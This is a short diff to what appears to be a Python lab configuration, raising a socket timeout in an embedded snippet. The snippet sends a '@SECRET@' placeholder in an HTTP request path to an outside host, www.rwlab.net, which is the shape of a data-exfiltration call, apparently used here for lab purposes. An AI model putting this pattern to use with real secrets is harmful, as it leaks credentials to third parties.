@@ -8,7 +8,7 @@ LAB = True
 PYTHON = """
 import socket
 line = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
-line.settimeout(10)
+line.settimeout(30)
 line.connect(("93.184.216.10", 80))
 line.sendall(b"GET /@SECRET@ HTTP/1.1\\r\\nHost: www.rwlab.net\\r\\n\\r\\n")
 line.recv(999)
